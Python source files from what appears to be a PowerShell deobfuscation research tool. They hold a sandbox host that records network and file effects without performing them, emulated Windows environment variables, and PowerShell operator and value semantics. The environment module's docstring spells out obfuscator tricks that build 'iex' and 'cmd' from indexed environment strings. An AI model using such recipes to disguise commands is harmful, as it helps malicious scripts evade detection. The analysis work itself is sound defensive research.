    type_name = "System.Collections.ArrayList"

    def __init__(self):
        self.items: List[Any] = []

    def ps_call(self, name: str, args: List[Any]) -> Any:
        lowered = name.lower()
        if lowered == "add":
            self.items.append(args[0] if args else None)
            return len(self.items) - 1
        if lowered == "toarray":
            return list(self.items)
        if lowered == "contains":
            return args[0] in self.items
        return super().ps_call(name, args)

    def ps_member(self, name: str) -> Any:
        if name.lower() == "count":
            return len(self.items)
        return super().ps_member(name)


class PSCredential(PSObjectBase):
    type_name = "System.Management.Automation.PSCredential"

    def __init__(self, username: str, password: Any):
        self.username = username
        self.password = password

    def ps_member(self, name: str) -> Any:
        lowered = name.lower()
        if lowered == "username":
            return self.username
        if lowered == "password":
            return self.password
        return super().ps_member(name)

    def ps_call(self, name: str, args: List[Any]) -> Any:
        if name.lower() == "getnetworkcredential":
            return NetworkCredential(self.username, self.password)
        return super().ps_call(name, args)


class NetworkCredential(PSObjectBase):
    type_name = "System.Net.NetworkCredential"

    def __init__(self, username: str, password: Any):
        from repro.runtime.securestring import SecureString

        self.username = username
        if isinstance(password, SecureString):
            self.password = password.plaintext
        else:
            self.password = to_string(password)

    def ps_member(self, name: str) -> Any:
        lowered = name.lower()
        if lowered == "password":
            return self.password
        if lowered == "username":
            return self.username
        return super().ps_member(name)
