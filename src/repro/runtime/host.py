"""The sandbox host: effect recording and synthetic external content.

Every object with an outward-facing surface (``Net.WebClient``,
``TcpClient``...) receives a :class:`SandboxHost` and *records* intent
instead of performing it.  The behavioural-consistency experiment
(paper Table IV) compares the recorded event sets of original and
deobfuscated scripts; the deobfuscator itself runs with a host too, so
even a blocklist miss cannot touch a real network.
"""

from dataclasses import dataclass, field
from typing import Dict, List, Optional
from urllib.parse import urlparse


@dataclass(frozen=True)
class Effect:
    """One recorded side-effect intent."""

    kind: str          # e.g. "net.download_string", "net.tcp_connect"
    target: str        # URL, host:port, file path...
    detail: str = ""   # free-form extra context

    @property
    def host(self) -> str:
        """The network host this effect touches (for Table IV matching)."""
        if self.kind.startswith("net."):
            if "://" in self.target:
                return urlparse(self.target).hostname or self.target
            return self.target.split(":")[0]
        return ""


@dataclass
class SandboxHost:
    """Collects effects and serves synthetic content for network reads.

    ``responses`` maps URL → payload so tests and the behaviour sandbox can
    script multi-stage downloads (a downloader fetching a second stage).

    ``files`` is a virtual filesystem (case-insensitive Windows-style
    paths): file writes land here instead of on disk, and later reads —
    ``Get-Content``, ``powershell -File``, invoking a dropped ``.ps1`` —
    see them, so dropper → execute chains stay fully observable without
    ever touching the real filesystem.
    """

    effects: List[Effect] = field(default_factory=list)
    responses: Dict[str, str] = field(default_factory=dict)
    default_response: str = ""
    output: List[str] = field(default_factory=list)
    files: Dict[str, object] = field(default_factory=dict)

    def record(self, kind: str, target: str, detail: str = "") -> None:
        self.effects.append(Effect(kind=kind, target=target, detail=detail))

    def fetch(self, url: str) -> str:
        """Synthetic HTTP GET body for *url*."""
        return self.responses.get(url, self.default_response)

    def write_host(self, text: str) -> None:
        """Console output sink (Write-Host / Write-Output leftovers)."""
        self.output.append(text)

    # -- virtual filesystem -------------------------------------------------

    @staticmethod
    def _file_key(path: str) -> str:
        return path.strip().strip('"').lower()

    def write_file(self, path: str, content, append: bool = False) -> None:
        key = self._file_key(path)
        if append and key in self.files:
            existing = self.files[key]
            if isinstance(existing, str) and isinstance(content, str):
                content = existing + content
        self.files[key] = content
        self.record("fs.write", path)

    def read_file(self, path: str):
        """File content, or None when the path was never written."""
        return self.files.get(self._file_key(path))

    def has_file(self, path: str) -> bool:
        return self._file_key(path) in self.files

    def delete_file(self, path: str) -> None:
        self.files.pop(self._file_key(path), None)
        self.record("fs.delete", path)

    # -- queries ---------------------------------------------------------------

    def network_effects(self) -> List[Effect]:
        return [e for e in self.effects if e.kind.startswith("net.")]

    def network_hosts(self) -> List[str]:
        seen = []
        for effect in self.network_effects():
            host = effect.host
            if host and host not in seen:
                seen.append(host)
        return seen
