"""The sandbox host: effect recording and synthetic external content.

Every object with an outward-facing surface (``Net.WebClient``,
``TcpClient``...) receives a :class:`SandboxHost` and *records* intent
instead of performing it.  The behavioural-consistency experiment
(paper Table IV) compares the recorded event sets of original and
deobfuscated scripts; the deobfuscator itself runs with a host too, so
even a blocklist miss cannot touch a real network.

Two recording surfaces coexist:

:class:`Effect`
    The original coarse side-effect list (``net.*``, ``fs.*``,
    ``proc.*``, ``time.*``) — always collected, cheap, and the basis
    of the legacy network-signature comparison.

:class:`BehaviorEvent`
    The ordered, structured event log the semantic-equivalence
    verifier (:mod:`repro.verify`) compares: command invocations with
    resolved names and stringified arguments, member/static calls,
    every effect, emitted output, and blocklist hits.  Collection is
    **off by default** (``collect_events=False``) so piece recovery —
    which constructs thousands of evaluators per corpus — pays
    nothing; the verifier turns it on per run.  The log is bounded by
    ``max_events``; overflow increments ``events_dropped`` instead of
    growing without limit on hostile inputs.
"""

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple
from urllib.parse import urlparse

# Event categories a BehaviorEvent.kind may carry.
EVENT_KINDS = (
    "command",   # resolved command/cmdlet/function invocation
    "member",    # method call on an outward-facing sandbox object
    "static",    # [Type]::Member(...) static call
    "effect",    # recorded side-effect intent (name = Effect.kind)
    "output",    # console/pipeline output text
    "blocked",   # blocklist hit (command/type/method refused)
)

DEFAULT_MAX_EVENTS = 10_000

# Stringified event arguments are clipped to keep logs and diffs bounded.
_ARGUMENT_CLIP = 200


@dataclass(frozen=True)
class Effect:
    """One recorded side-effect intent."""

    kind: str          # e.g. "net.download_string", "net.tcp_connect"
    target: str        # URL, host:port, file path...
    detail: str = ""   # free-form extra context

    @property
    def host(self) -> str:
        """The network host this effect touches (for Table IV matching)."""
        if self.kind.startswith("net."):
            if "://" in self.target:
                return urlparse(self.target).hostname or self.target
            return self.target.split(":")[0]
        return ""


@dataclass(frozen=True)
class BehaviorEvent:
    """One entry of the ordered behaviour log (see :data:`EVENT_KINDS`)."""

    kind: str
    name: str                          # resolved name / effect kind
    arguments: Tuple[str, ...] = ()    # stringified, clipped arguments
    detail: str = ""

    def to_dict(self) -> Dict[str, Any]:
        data: Dict[str, Any] = {"kind": self.kind, "name": self.name}
        if self.arguments:
            data["arguments"] = list(self.arguments)
        if self.detail:
            data["detail"] = self.detail
        return data

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "BehaviorEvent":
        return cls(
            kind=str(data.get("kind", "")),
            name=str(data.get("name", "")),
            arguments=tuple(str(a) for a in data.get("arguments", ())),
            detail=str(data.get("detail", "")),
        )


def clip_argument(text: str) -> str:
    """Stringified event arguments, bounded for log hygiene."""
    if len(text) > _ARGUMENT_CLIP:
        return text[:_ARGUMENT_CLIP] + "…"
    return text


@dataclass
class SandboxHost:
    """Collects effects and serves synthetic content for network reads.

    ``responses`` maps URL → payload so tests and the behaviour sandbox can
    script multi-stage downloads (a downloader fetching a second stage).

    ``files`` is a virtual filesystem (case-insensitive Windows-style
    paths): file writes land here instead of on disk, and later reads —
    ``Get-Content``, ``powershell -File``, invoking a dropped ``.ps1`` —
    see them, so dropper → execute chains stay fully observable without
    ever touching the real filesystem.

    ``collect_events`` switches on the ordered :class:`BehaviorEvent`
    log that :mod:`repro.verify` compares between original and
    deobfuscated executions.
    """

    effects: List[Effect] = field(default_factory=list)
    responses: Dict[str, str] = field(default_factory=dict)
    default_response: str = ""
    output: List[str] = field(default_factory=list)
    files: Dict[str, object] = field(default_factory=dict)
    collect_events: bool = False
    events: List[BehaviorEvent] = field(default_factory=list)
    max_events: int = DEFAULT_MAX_EVENTS
    events_dropped: int = 0
    # The active SandboxPolicy / PolicyAudit (repro.policy), when the
    # evaluation runs under one that denies effect kinds.  None keeps
    # record() on the historical zero-check path.
    policy: Optional[object] = None
    audit: Optional[object] = None

    @classmethod
    def from_policy(cls, policy, audit=None, **kwargs) -> "SandboxHost":
        """A host configured by a :class:`~repro.policy.SandboxPolicy`
        (event log on/off and its cap, effect-denial checks)."""
        if policy.max_events is not None:
            kwargs.setdefault("max_events", policy.max_events)
        return cls(
            collect_events=policy.collect_events,
            policy=policy,
            audit=audit,
            **kwargs,
        )

    def record(self, kind: str, target: str, detail: str = "") -> None:
        policy = self.policy
        if policy is not None and policy.checks_effects:
            if not policy.check("effect", kind, self.audit):
                from repro.runtime.errors import PolicyDeniedError

                self.record_event("blocked", kind, (target,), detail)
                raise PolicyDeniedError(kind, "effect")
        self.effects.append(Effect(kind=kind, target=target, detail=detail))
        self.record_event("effect", kind, (target,), detail)

    def record_event(
        self,
        kind: str,
        name: str,
        arguments: Tuple[str, ...] = (),
        detail: str = "",
    ) -> None:
        """Append to the behaviour log (no-op unless ``collect_events``)."""
        if not self.collect_events:
            return
        if len(self.events) >= self.max_events:
            self.events_dropped += 1
            return
        self.events.append(
            BehaviorEvent(
                kind=kind,
                name=name,
                arguments=tuple(clip_argument(str(a)) for a in arguments),
                detail=clip_argument(detail),
            )
        )

    def fetch(self, url: str) -> str:
        """Synthetic HTTP GET body for *url*."""
        return self.responses.get(url, self.default_response)

    def write_host(self, text: str) -> None:
        """Console output sink (Write-Host / Write-Output leftovers)."""
        self.output.append(text)
        self.record_event("output", "console", (text,))

    # -- virtual filesystem -------------------------------------------------

    @staticmethod
    def _file_key(path: str) -> str:
        return path.strip().strip('"').lower()

    def write_file(self, path: str, content, append: bool = False) -> None:
        key = self._file_key(path)
        if append and key in self.files:
            existing = self.files[key]
            if isinstance(existing, str) and isinstance(content, str):
                content = existing + content
        self.files[key] = content
        self.record("fs.write", path)

    def read_file(self, path: str):
        """File content, or None when the path was never written."""
        return self.files.get(self._file_key(path))

    def has_file(self, path: str) -> bool:
        return self._file_key(path) in self.files

    def delete_file(self, path: str) -> None:
        self.files.pop(self._file_key(path), None)
        self.record("fs.delete", path)

    # -- queries ---------------------------------------------------------------

    def network_effects(self) -> List[Effect]:
        return [e for e in self.effects if e.kind.startswith("net.")]

    def network_hosts(self) -> List[str]:
        seen = []
        for effect in self.network_effects():
            host = effect.host
            if host and host not in seen:
                seen.append(host)
        return seen
