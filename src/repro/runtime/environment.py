"""Environment and automatic variables visible to sandboxed evaluation.

Obfuscators mine these for characters: ``$pshome[4]+$pshome[30]+'x'`` spells
``iex``, ``$env:ComSpec[4,24,25] -join ''`` spells ``cmd``, ``$ShellId``
and ``$VerbosePreference`` supply letters for ``Invoke-Expression``.  The
values below match a stock Windows 10 + Windows PowerShell 5.1 install so
those recipes recover the same strings as on the paper's testbed.
"""

from typing import Any, Dict, Optional

# $env:* drive (case-insensitive keys, matched lowercase).
ENVIRONMENT_VARIABLES: Dict[str, str] = {
    "comspec": r"C:\WINDOWS\system32\cmd.exe",
    "windir": r"C:\WINDOWS",
    "systemroot": r"C:\WINDOWS",
    "systemdrive": "C:",
    "programfiles": r"C:\Program Files",
    "programdata": r"C:\ProgramData",
    "public": r"C:\Users\Public",
    "username": "user",
    "userprofile": r"C:\Users\user",
    "computername": "DESKTOP-REPRO",
    "temp": r"C:\Users\user\AppData\Local\Temp",
    "tmp": r"C:\Users\user\AppData\Local\Temp",
    "appdata": r"C:\Users\user\AppData\Roaming",
    "localappdata": r"C:\Users\user\AppData\Local",
    "homedrive": "C:",
    "homepath": r"\Users\user",
    "os": "Windows_NT",
    "processor_architecture": "AMD64",
    "psmodulepath": (
        r"C:\Users\user\Documents\WindowsPowerShell\Modules;"
        r"C:\Program Files\WindowsPowerShell\Modules;"
        r"C:\WINDOWS\system32\WindowsPowerShell\v1.0\Modules"
    ),
    "path": r"C:\WINDOWS\system32;C:\WINDOWS",
}

# Automatic/preference variables ($name, case-insensitive).
AUTOMATIC_VARIABLES: Dict[str, Any] = {
    "true": True,
    "false": False,
    "null": None,
    "pshome": r"C:\Windows\System32\WindowsPowerShell\v1.0",
    "shellid": "Microsoft.PowerShell",
    "psversiontable": {
        "PSVersion": "5.1.19041.1237",
        "PSEdition": "Desktop",
    },
    "pwd": r"C:\Users\user",
    "home": r"C:\Users\user",
    "host": "ConsoleHost",
    "pid": 4242,
    "ofs": " ",
    "verbosepreference": "SilentlyContinue",
    "debugpreference": "SilentlyContinue",
    "warningpreference": "Continue",
    "erroractionpreference": "Continue",
    "progresspreference": "Continue",
    "confirmpreference": "High",
    "maximumdrivecount": 4096,
    "executioncontext": "System.Management.Automation.EngineIntrinsics",
    "input": [],
    "args": [],
}


def lookup_environment(name: str) -> Optional[str]:
    """Value of ``$env:<name>`` or None when unset."""
    return ENVIRONMENT_VARIABLES.get(name.lower())


def lookup_automatic(name: str) -> Any:
    """Value of an automatic variable; raises KeyError when not one."""
    return AUTOMATIC_VARIABLES[name.lower()]


def is_automatic(name: str) -> bool:
    return name.lower() in AUTOMATIC_VARIABLES


def split_scope_prefix(name: str):
    """Split ``global:x`` / ``script:x`` / ``local:x`` / ``env:x``.

    Returns ``(drive_or_scope, bare_name)``; the first part is ``None``
    for plain names.
    """
    if ":" in name:
        prefix, _, rest = name.partition(":")
        return prefix.lower(), rest
    return None, name
