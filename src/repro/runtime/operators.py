"""PowerShell operator semantics on sandbox values.

Case-insensitivity is pervasive: default string comparisons, ``-split`` /
``-replace`` / ``-match`` regexes, and ``-like`` wildcards all ignore case
unless the ``c``-prefixed variant is used.
"""

import fnmatch
import re
from typing import Any, List

from repro.runtime.errors import EvaluationError, UnsupportedOperationError
from repro.runtime.values import (
    PSChar,
    as_list,
    is_number,
    to_bool,
    to_int,
    to_number,
    to_string,
    type_name_of,
)

_COMPARISON_CANONICAL = {
    "ieq": "eq", "ine": "ne", "igt": "gt", "ige": "ge", "ilt": "lt",
    "ile": "le", "ilike": "like", "inotlike": "notlike", "imatch": "match",
    "inotmatch": "notmatch", "icontains": "contains",
    "inotcontains": "notcontains", "ireplace": "replace", "isplit": "split",
}

_CASE_SENSITIVE_PREFIX = "c"


def _regex_flags(case_sensitive: bool) -> int:
    return 0 if case_sensitive else re.IGNORECASE


def _string_like_operand(value: Any) -> bool:
    return isinstance(value, (str, PSChar))


def binary_op(operator: str, left: Any, right: Any) -> Any:
    """Evaluate ``left <operator> right`` with PowerShell semantics."""
    op = operator.lower()
    if op.startswith("-") and len(op) > 1:
        op = op[1:]
    case_sensitive = False
    # 'contains' begins with 'c' but is not the c-prefixed form of anything.
    if op != "contains" and op.startswith(_CASE_SENSITIVE_PREFIX) and op[1:] in (
        "eq", "ne", "gt", "ge", "lt", "le", "like", "notlike", "match",
        "notmatch", "contains", "notcontains", "replace", "split",
    ):
        case_sensitive = True
        op = op[1:]
    op = _COMPARISON_CANONICAL.get(op, op)

    if op == "+":
        return _op_add(left, right)
    if op == "-":
        return to_number(left) - to_number(right)
    if op == "*":
        return _op_multiply(left, right)
    if op == "/":
        return _op_divide(left, right)
    if op == "%":
        return to_number(left) % to_number(right)
    if op == "f":
        return format_operator(left, right)
    if op == "..":
        return _op_range(left, right)
    if op == "join":
        return _op_join(left, right)
    if op == "split":
        return _op_split(left, right, case_sensitive)
    if op == "replace":
        return _op_replace(left, right, case_sensitive)
    if op in ("band", "bor", "bxor", "shl", "shr"):
        return _op_bitwise(op, left, right)
    if op in ("and", "or", "xor"):
        return _op_logical(op, left, right)
    if op in ("eq", "ne", "gt", "ge", "lt", "le"):
        return _op_compare(op, left, right, case_sensitive)
    if op in ("like", "notlike"):
        return _op_like(op, left, right, case_sensitive)
    if op in ("match", "notmatch"):
        return _op_match(op, left, right, case_sensitive)
    if op in ("contains", "notcontains"):
        result = _op_contains(left, right, case_sensitive)
        return result if op == "contains" else not result
    if op in ("in", "notin"):
        result = _op_contains(right, left, case_sensitive)
        return result if op == "in" else not result
    if op == "as":
        return _op_as(left, right)
    if op in ("is", "isnot"):
        result = _op_is(left, right)
        return result if op == "is" else not result
    raise UnsupportedOperationError(f"binary operator -{op} not supported")


def unary_op(operator: str, value: Any) -> Any:
    op = operator.lstrip("-").lower()
    if operator in ("!", "-not") or op == "not":
        return not to_bool(value)
    if op == "bnot":
        return ~to_int(value)
    if operator == "-" or (operator.startswith("-") and op == ""):
        return -to_number(value)
    if operator == "+":
        return to_number(value)
    if op in ("split", "isplit", "csplit"):
        text = to_string(value)
        return [piece for piece in re.split(r"\s+", text) if piece != ""]
    if op == "join":
        return "".join(to_string(v) for v in as_list(value))
    raise UnsupportedOperationError(f"unary operator {operator!r}")


def _op_add(left: Any, right: Any) -> Any:
    if isinstance(left, (str, PSChar)):
        return to_string(left) + to_string(right)
    if isinstance(left, list):
        return list(left) + as_list(right)
    if isinstance(left, (bytes, bytearray)):
        if isinstance(right, (bytes, bytearray)):
            return bytearray(left) + bytearray(right)
        return list(left) + as_list(right)
    if isinstance(left, dict):
        if isinstance(right, dict):
            merged = dict(left)
            merged.update(right)
            return merged
        raise EvaluationError("can only add hashtable to hashtable")
    return to_number(left) + to_number(right)


def _op_multiply(left: Any, right: Any) -> Any:
    if isinstance(left, (str, PSChar)):
        return to_string(left) * to_int(right)
    if isinstance(left, list):
        return list(left) * to_int(right)
    return to_number(left) * to_number(right)


def _op_divide(left: Any, right: Any) -> Any:
    numerator, denominator = to_number(left), to_number(right)
    if denominator == 0:
        raise EvaluationError("division by zero")
    result = numerator / denominator
    if (
        isinstance(numerator, int)
        and isinstance(denominator, int)
        and numerator % denominator == 0
    ):
        return numerator // denominator
    return result


def _op_range(left: Any, right: Any) -> List[int]:
    start, stop = to_int(left), to_int(right)
    if abs(stop - start) > 100_000:
        raise EvaluationError("range too large")
    if start <= stop:
        return list(range(start, stop + 1))
    return list(range(start, stop - 1, -1))


def _op_join(left: Any, right: Any) -> str:
    separator = to_string(right)
    return separator.join(to_string(v) for v in as_list(left))


def _op_split(left: Any, right: Any, case_sensitive: bool) -> List[str]:
    # Binary -split takes a regex; applied element-wise to array input,
    # results flattened — exactly what chained-split obfuscation relies on.
    if isinstance(right, list):
        pattern = to_string(right[0]) if right else ""
    else:
        pattern = to_string(right)
    try:
        compiled = re.compile(pattern, _regex_flags(case_sensitive))
    except re.error as exc:
        raise EvaluationError(f"bad -split pattern {pattern!r}: {exc}") from exc
    pieces: List[str] = []
    for item in as_list(left):
        pieces.extend(compiled.split(to_string(item)))
    return pieces


_DOLLAR_REF = re.compile(r"\$(\d+|\{\w+\})")


def _op_replace(left: Any, right: Any, case_sensitive: bool) -> Any:
    if isinstance(right, list):
        pattern = to_string(right[0]) if right else ""
        replacement = to_string(right[1]) if len(right) > 1 else ""
    else:
        pattern = to_string(right)
        replacement = ""
    try:
        compiled = re.compile(pattern, _regex_flags(case_sensitive))
    except re.error as exc:
        raise EvaluationError(
            f"bad -replace pattern {pattern!r}: {exc}"
        ) from exc
    # .NET $1 / ${name} group references → Python \1 / \g<name>.
    python_replacement = _DOLLAR_REF.sub(
        lambda m: (
            "\\" + m.group(1)
            if m.group(1).isdigit()
            else "\\g<" + m.group(1)[1:-1] + ">"
        ),
        replacement.replace("\\", "\\\\"),
    )
    if isinstance(left, list):
        return [compiled.sub(python_replacement, to_string(v)) for v in left]
    return compiled.sub(python_replacement, to_string(left))


def _op_bitwise(op: str, left: Any, right: Any) -> int:
    a, b = to_int(left), to_int(right)
    if op == "band":
        return a & b
    if op == "bor":
        return a | b
    if op == "bxor":
        return a ^ b
    if op == "shl":
        return a << (b & 0x1F)
    return a >> (b & 0x1F)


def _op_logical(op: str, left: Any, right: Any) -> bool:
    a, b = to_bool(left), to_bool(right)
    if op == "and":
        return a and b
    if op == "or":
        return a or b
    return a != b


def _normalize_for_compare(value: Any, case_sensitive: bool):
    if isinstance(value, PSChar):
        value = value.char
    if isinstance(value, str):
        return value if case_sensitive else value.lower()
    if isinstance(value, bool):
        return 1 if value else 0
    return value


def _op_compare(op: str, left: Any, right: Any, case_sensitive: bool):
    if isinstance(left, list):
        # Array LHS: comparison filters the array (PowerShell semantics).
        return [
            item
            for item in left
            if _scalar_compare(op, item, right, case_sensitive)
        ]
    return _scalar_compare(op, left, right, case_sensitive)


def _scalar_compare(op, left, right, case_sensitive) -> bool:
    if _string_like_operand(left):
        a = _normalize_for_compare(left, case_sensitive)
        b = _normalize_for_compare(to_string(right), case_sensitive)
    elif is_number(left) or isinstance(left, bool):
        a = to_number(left)
        try:
            b = to_number(right)
        except EvaluationError:
            return op == "ne"
    elif left is None:
        a, b = None, right
        if op == "eq":
            return b is None or (isinstance(b, str) and False)
        if op == "ne":
            return b is not None
        return False
    else:
        a, b = left, right
    try:
        if op == "eq":
            return a == b
        if op == "ne":
            return a != b
        if op == "gt":
            return a > b
        if op == "ge":
            return a >= b
        if op == "lt":
            return a < b
        if op == "le":
            return a <= b
    except TypeError:
        return op == "ne"
    raise UnsupportedOperationError(f"comparison {op}")


def _op_like(op: str, left: Any, right: Any, case_sensitive: bool) -> bool:
    text = to_string(left)
    pattern = to_string(right)
    if case_sensitive:
        matched = fnmatch.fnmatchcase(text, pattern)
    else:
        matched = fnmatch.fnmatchcase(text.lower(), pattern.lower())
    return matched if op == "like" else not matched


def _op_match(op: str, left: Any, right: Any, case_sensitive: bool) -> Any:
    pattern = to_string(right)
    try:
        compiled = re.compile(pattern, _regex_flags(case_sensitive))
    except re.error as exc:
        raise EvaluationError(f"bad -match pattern: {exc}") from exc
    if isinstance(left, list):
        hits = [v for v in left if compiled.search(to_string(v))]
        return hits if op == "match" else [
            v for v in left if not compiled.search(to_string(v))
        ]
    matched = compiled.search(to_string(left)) is not None
    return matched if op == "match" else not matched


def _op_contains(haystack: Any, needle: Any, case_sensitive: bool) -> bool:
    for item in as_list(haystack):
        if _scalar_compare("eq", item, needle, case_sensitive):
            return True
    return False


_AS_CASTS = {
    "int": to_int, "int32": to_int, "int64": to_int, "long": to_int,
    "double": lambda v: float(to_number(v)),
    "string": to_string,
    "char": PSChar,
    "bool": to_bool, "boolean": to_bool,
    "array": as_list,
}


def _op_as(left: Any, right: Any) -> Any:
    type_name = to_string(right).lower().replace("system.", "").strip("[]")
    cast = _AS_CASTS.get(type_name)
    if cast is None:
        raise UnsupportedOperationError(f"-as [{type_name}]")
    try:
        return cast(left)
    except EvaluationError:
        return None


def _op_is(left: Any, right: Any) -> bool:
    wanted = to_string(right).lower().replace("system.", "").strip("[]")
    actual = type_name_of(left).lower().replace("system.", "")
    synonyms = {
        "int": "int32", "long": "int64", "bool": "boolean",
        "object[]": "object[]", "array": "object[]",
    }
    wanted = synonyms.get(wanted, wanted)
    return actual == wanted


_FORMAT_SPEC = re.compile(
    r"\{(\d+)(?:,(-?\d+))?(?::([^{}]*))?\}"
)


def format_operator(template: Any, arguments: Any) -> str:
    """The ``-f`` operator: .NET composite formatting, the subset wild
    obfuscators use ({n}, alignment, X/D/N numeric specs).

    Scans left-to-right the way .NET does, so ``{{{0}}}`` renders as
    ``{`` + arg 0 + ``}``.
    """
    text = to_string(template)
    args = as_list(arguments)
    out: List[str] = []
    i = 0
    length = len(text)
    while i < length:
        ch = text[i]
        if ch == "{" and i + 1 < length and text[i + 1] == "{":
            out.append("{")
            i += 2
            continue
        if ch == "}" and i + 1 < length and text[i + 1] == "}":
            out.append("}")
            i += 2
            continue
        if ch == "{":
            match = _FORMAT_SPEC.match(text, i)
            if match is None:
                raise EvaluationError(
                    f"bad format item at offset {i} in {text!r}"
                )
            index = int(match.group(1))
            if index >= len(args):
                raise EvaluationError(
                    f"format index {index} out of range ({len(args)} args)"
                )
            rendered = _apply_format_spec(args[index], match.group(3))
            alignment = match.group(2)
            if alignment:
                width = int(alignment)
                rendered = (
                    rendered.rjust(width)
                    if width >= 0
                    else rendered.ljust(-width)
                )
            out.append(rendered)
            i = match.end()
            continue
        if ch == "}":
            raise EvaluationError(f"unbalanced '}}' in format {text!r}")
        out.append(ch)
        i += 1
    return "".join(out)


def _apply_format_spec(value: Any, spec) -> str:
    if not spec:
        return to_string(value)
    kind = spec[0].upper()
    digits = spec[1:]
    if kind == "X":
        width = int(digits) if digits else 0
        formatted = format(to_int(value), "X")
        return formatted.zfill(width) if spec[0] == "X" else (
            format(to_int(value), "x").zfill(width)
        )
    if kind == "D":
        width = int(digits) if digits else 0
        return str(to_int(value)).zfill(width)
    if kind == "N":
        places = int(digits) if digits else 2
        return f"{to_number(value):,.{places}f}"
    if kind == "F":
        places = int(digits) if digits else 2
        return f"{to_number(value):.{places}f}"
    raise UnsupportedOperationError(f"format spec {spec!r}")
