"""The PowerShell value model: conversions and formatting.

The evaluator works on plain Python values wherever possible:

==================  =========================================
PowerShell type     Python representation
==================  =========================================
String              ``str``
Char                :class:`PSChar`
Int32/Int64/Double  ``int`` / ``float``
Boolean             ``bool``
Null                ``None``
Object[] (array)    ``list``
Byte[]              ``bytes`` / ``bytearray``
Hashtable           ``dict``
ScriptBlock         :class:`ScriptBlockValue`
==================  =========================================

Conversion rules mirror PowerShell's: string→int honours ``0x`` prefixes,
``$null`` stringifies to ``""``, booleans to ``True``/``False``, arrays
join on ``$OFS`` (a space), chars act like one-character strings under
``+`` but like code points under arithmetic/bitwise operators.
"""

from typing import Any, Iterable, List, Optional

from repro.runtime.errors import EvaluationError, UnsupportedOperationError


class PSChar:
    """A .NET ``System.Char``: one UTF-16 code unit."""

    __slots__ = ("char",)

    def __init__(self, value):
        if isinstance(value, PSChar):
            self.char = value.char
        elif isinstance(value, str):
            if len(value) != 1:
                raise EvaluationError(
                    f"cannot convert string of length {len(value)} to char"
                )
            self.char = value
        elif isinstance(value, bool):
            raise EvaluationError("cannot convert bool to char")
        elif isinstance(value, int):
            if not 0 <= value <= 0x10FFFF:
                raise EvaluationError(f"char code out of range: {value}")
            self.char = chr(value)
        elif isinstance(value, float):
            raise EvaluationError("cannot convert double to char")
        else:
            raise EvaluationError(f"cannot convert {type(value)!r} to char")

    @property
    def code(self) -> int:
        return ord(self.char)

    def __eq__(self, other) -> bool:
        if isinstance(other, PSChar):
            return self.char == other.char
        if isinstance(other, str):
            return self.char == other
        return NotImplemented

    def __hash__(self) -> int:
        return hash(self.char)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"PSChar({self.char!r})"


class ScriptBlockValue:
    """A ``{ ... }`` literal: the AST plus the source it indexes into."""

    __slots__ = ("ast", "source")

    def __init__(self, ast, source: str):
        self.ast = ast
        self.source = source

    def text(self) -> str:
        return self.source[self.ast.start:self.ast.end]

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"ScriptBlockValue({self.text()[:40]!r})"


def is_stringifiable(value: Any) -> bool:
    """True when the paper's recovery would accept this execution result.

    Section III-B2: string and number results are kept; results whose type
    "cannot represent in string form, like Object" are rejected and the
    recoverable piece is left unchanged.  Arrays qualify when every element
    does.
    """
    if value is None:
        return False
    if isinstance(value, (str, PSChar, bool, int, float)):
        return True
    if isinstance(value, (list, tuple)):
        return bool(value) and all(is_stringifiable(v) for v in value)
    return False


def to_string(value: Any) -> str:
    """PowerShell's string conversion (interpolation semantics)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "True" if value else "False"
    if isinstance(value, PSChar):
        return value.char
    if isinstance(value, str):
        return value
    if isinstance(value, float):
        if value.is_integer():
            return str(int(value))
        return repr(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, (bytes, bytearray)):
        return " ".join(str(b) for b in value)
    if isinstance(value, (list, tuple)):
        return " ".join(to_string(v) for v in value)
    if isinstance(value, dict):
        return "System.Collections.Hashtable"
    if isinstance(value, ScriptBlockValue):
        return value.text()
    text = getattr(value, "ps_to_string", None)
    if callable(text):
        return text()
    raise UnsupportedOperationError(
        f"no string conversion for {type(value).__name__}"
    )


def to_number(value: Any):
    """PowerShell's numeric conversion for arithmetic operands."""
    if isinstance(value, bool):
        return 1 if value else 0
    if isinstance(value, (int, float)):
        return value
    if isinstance(value, PSChar):
        return value.code
    if value is None:
        return 0
    if isinstance(value, str):
        text = value.strip()
        if text == "":
            raise EvaluationError("cannot convert empty string to number")
        negative = text.startswith("-")
        if negative or text.startswith("+"):
            core = text[1:].strip()
        else:
            core = text
        try:
            if core.lower().startswith("0x"):
                number = int(core, 16)
            elif any(ch in core for ch in ".eE"):
                number = float(core)
            else:
                number = int(core)
        except ValueError as exc:
            raise EvaluationError(
                f"cannot convert {value!r} to number"
            ) from exc
        return -number if negative else number
    raise EvaluationError(f"cannot convert {type(value).__name__} to number")


def to_int(value: Any) -> int:
    number = to_number(value)
    if isinstance(number, float):
        # .NET rounds half to even.
        import math

        floor = math.floor(number)
        fraction = number - floor
        if fraction > 0.5 or (fraction == 0.5 and floor % 2 == 1):
            return floor + 1
        return floor
    return number


def to_bool(value: Any) -> bool:
    """PowerShell truthiness."""
    if value is None:
        return False
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float)):
        return value != 0
    if isinstance(value, str):
        return value != ""
    if isinstance(value, PSChar):
        return True
    if isinstance(value, (list, tuple)):
        if len(value) == 0:
            return False
        if len(value) == 1:
            return to_bool(value[0])
        return True
    if isinstance(value, (bytes, bytearray)):
        return len(value) > 0
    return True


def as_list(value: Any) -> List[Any]:
    """Wrap scalars; pass arrays through (pipeline input semantics)."""
    if value is None:
        return []
    if isinstance(value, list):
        return value
    if isinstance(value, tuple):
        return list(value)
    if isinstance(value, (bytes, bytearray)):
        return list(value)
    return [value]


def flatten(values: Iterable[Any]) -> List[Any]:
    """One-level flatten used when pipelines emit arrays."""
    out: List[Any] = []
    for value in values:
        if isinstance(value, list):
            out.extend(value)
        else:
            out.append(value)
    return out


def unwrap_single(values: List[Any]) -> Any:
    """Pipeline output of one element collapses to that element."""
    if not values:
        return None
    if len(values) == 1:
        return values[0]
    return values


def char_array(text: str) -> List[PSChar]:
    return [PSChar(ch) for ch in text]


def to_char_code(value: Any) -> int:
    """The integer a char-valued operand contributes to arithmetic."""
    if isinstance(value, PSChar):
        return value.code
    if isinstance(value, str) and len(value) == 1:
        return ord(value)
    return to_int(value)


